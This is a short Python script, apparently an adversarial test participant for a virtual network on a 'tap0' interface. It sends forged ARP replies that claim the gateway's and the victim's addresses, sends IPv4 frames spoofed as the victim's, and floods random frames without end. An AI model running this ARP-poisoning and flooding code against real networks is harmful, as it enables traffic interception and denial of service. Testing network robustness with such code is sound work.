"""A member that behaves badly: random and forged frames, as fast as it can, until it is killed.

    flood.py VICTIM_MAC VICTIM_ADDRESS GATEWAY
"""
import random
import socket
import sys

victim = bytes.fromhex(sys.argv[1].replace(":", ""))
address, gateway = (socket.inet_aton(text) for text in sys.argv[2:4])
wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
wire.bind(("tap0", 0))
mine = wire.getsockname()[4]
chance = random.Random(7)
everybody = b"\xff" * 6
# ARP: the gateway's and the victim's addresses are here.
lies = [
    to + mine + b"\x08\x06\x00\x01\x08\x00\x06\x04\x00" + operation + mine + whose + to + address
    for to in (victim, everybody)
    for operation in (b"\x01", b"\x02")
    for whose in (gateway, address)
]
# The victim's own frames, as if it had sent them: IPv4 with its source.
lies += [to + source + b"\x08\x00\x45" + bytes(11) + address + address + bytes(40) for to in (victim, everybody) for source in (mine, victim)]
while True:
    for lie in lies:
        wire.send(lie)
    for _ in range(16):
        to = chance.choice([victim, everybody, chance.randbytes(6)])
        wire.send(to + mine + chance.choice([b"\x08\x00", b"\x86\xdd", b"\x08\x06", chance.randbytes(2)]) + chance.randbytes(chance.randrange(10, 1400)))
